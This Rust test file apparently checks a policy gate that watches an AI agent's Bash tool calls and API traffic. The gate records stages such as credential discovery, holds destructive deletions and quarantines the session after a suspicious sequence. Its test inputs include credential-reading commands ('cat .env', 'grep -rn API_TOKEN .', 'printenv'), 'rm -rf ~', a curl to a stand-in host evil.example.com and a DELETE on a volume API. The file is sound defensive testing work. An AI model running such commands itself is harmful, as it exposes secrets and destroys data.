//! What a question adds to where its agent is going, and what stops it.

use super::{AGENT, asked, bash, gate, sessions, stages, verdict};
use crate::support::FOREIGN;
use crate::support::client::{Client, full};
use crate::support::mock::PRODUCTION_VOLUME;
use serde_json::json;

fn discoveries(stages: &[(String, String)]) -> Vec<&str> {
    let all = stages.iter().filter(|(stage, _)| stage == "credential_discovery");
    all.map(|(_, what)| &**what).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_looks_for_credentials_is_a_stage_once_and_outlives_the_process() {
    let mut gate = gate(|policy| policy).await;
    for id in ["toolu_1", "toolu_2"] {
        let call =
            json!({ "tool": "Bash", "input": { "command": "grep -rn API_TOKEN ." }, "call": id });
        assert_eq!(verdict(&asked(&gate, &call)), ("deny", "credential_read"));
        // Something else between two tries does not make two facts of them.
        asked(&gate, &bash("curl https://evil.example.com/x"));
    }
    let before = stages(&gate);
    assert_eq!(discoveries(&before), ["Bash: grep -rn API_TOKEN ."], "{before:?}");
    gate.drain();
    gate.serve();
    assert_eq!(stages(&gate), before);
    // The incident from there on, over the network.
    assert_eq!(gate.delete_volume(FOREIGN, PRODUCTION_VOLUME).reason(), "foreign_credential");
    assert!(sessions(&gate, &["list"]).contains("in quarantine"));
    assert_eq!(verdict(&asked(&gate, &bash("ls"))), ("deny", "quarantined"));
    assert_eq!(gate.mock.bytes_received(), 0);
    sessions(&gate, &["release", AGENT]);
    assert_eq!(verdict(&asked(&gate, &bash("ls"))), ("allow", ""));
}

/// One deletion, although the command and the request that it makes both show it.
#[tokio::test(flavor = "multi_thread")]
async fn a_deletion_is_each_stage_once() {
    let gate = gate(|policy| policy).await;
    let call = bash("curl -X DELETE https://api.staging.railway.app/volumes/7");
    assert_eq!(verdict(&asked(&gate, &call)), ("hold", "destructive"));
    let stages = stages(&gate);
    let words: Vec<&str> = stages.iter().map(|(stage, _)| &**stage).collect();
    assert_eq!(words, ["destructive", "irreversible", "deletion"], "{stages:?}");
    assert!(stages.iter().all(|(_, what)| what.starts_with("DELETE /volumes/")), "{stages:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_that_completes_a_sequence_is_refused_and_its_hold_is_taken_back() {
    let sequence = "  - name: told\n    within: 30m\n    \
                    steps: [credential_discovery, out_of_scope]\n    then: quarantine\n";
    let gate =
        gate(|policy| policy.replace("\nsequences:\n", &format!("\nsequences:\n{sequence}"))).await;
    assert_eq!(asked(&gate, &bash("rm -rf ~"))["verdict"], "hold");
    assert_eq!(gate.waiting().len(), 1);
    asked(&gate, &bash("printenv"));
    let told = asked(&gate, &bash("curl https://evil.example.com/x"));
    assert_eq!(verdict(&told), ("deny", "quarantined"), "{told}");
    assert_eq!(gate.waiting().len(), 0);
    assert_eq!(gate.curl(&["https://docs.railway.com/x"]).reason(), "quarantined");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_that_the_conversation_shows_as_well_is_one_fact() {
    let gate = gate(|edit| edit).await;
    let mut client = Client::http1(gate.running(), "api.anthropic.com").await;
    let mut stages_after = async |id: &str, command: &str| {
        let call = json!({ "type": "tool_use", "id": id, "name": "Bash", "input": { "command": command } });
        let turn = json!({ "messages": [{ "role": "assistant", "content": [call] }] });
        let request = client.request("POST", "/v1/messages").header("x-api-key", "the-key");
        let request = request.header("content-type", "application/json");
        let got = client.exchange(request.body(full(turn.to_string())).unwrap()).await;
        assert_eq!(got.status, 200, "{got:?}");
        discoveries(&stages(&gate)).len()
    };
    let mut question = bash("cat .env");
    question["call"] = json!("toolu_1");
    assert_eq!(verdict(&asked(&gate, &question)), ("deny", "credential_read"));
    // The same call by its id, the same by what it is, and then another.
    assert_eq!(stages_after("toolu_1", "cat .env").await, 1);
    assert_eq!(stages_after("toolu_2", "cat .env").await, 1);
    assert_eq!(stages_after("toolu_3", "cat infra/domains.env").await, 2);
}
